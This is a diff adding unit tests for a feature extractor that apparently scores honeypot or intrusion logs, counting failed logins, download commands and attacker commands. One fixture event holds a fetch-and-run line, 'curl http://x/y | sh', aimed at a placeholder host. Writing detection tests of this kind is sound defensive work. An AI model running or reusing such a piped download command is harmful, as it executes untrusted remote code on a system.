@@ -10,4 +10,28 @@ def test_extract_features_wget_and_commands():
     feats = extract_features(events)
     assert isinstance(feats, dict)
     assert feats.get("wget") == 1
-    assert feats.get("num_commands") == 3
\ No newline at end of file
+    assert feats.get("num_commands") == 3
+
+def test_feature_state_matches_batch_extraction():
+    from src.feature_extractor import FeatureState
+    events = [
+        {"ts": 1, "text": "Failed password for root"},
+        {"ts": 2, "text": "curl http://x/y | sh"},
+        {"ts": 3, "text": "[CLASS]=exploit|0.9|ENG=HIGH"},
+    ]
+    state = FeatureState()
+    for e in events:
+        state.update(e)
+    assert state.as_dict() == extract_features(events)
+    assert state.as_dict() == {"wget": 1, "failed_login": 1, "num_commands": 3}
+
+def test_error_events_are_not_failed_logins():
+    from src import events
+    from src.feature_extractor import FeatureState
+    state = FeatureState()
+    state.update(events.input_line("Failed password for root"))
+    state.update(events.error("PAYLOAD_SAVE_FAILED", "disk full"))
+    state.update(events.high_engagement("HIGH_ENGAGEMENT_FAILED"))
+    state.update({"ts": 1, "text": "[ERROR]=PAYLOAD_SAVE_FAILED|disk full"})
+    state.update({"ts": 2, "text": "ATTACKER_CMD: echo failed"})
+    assert state.failed_login == 2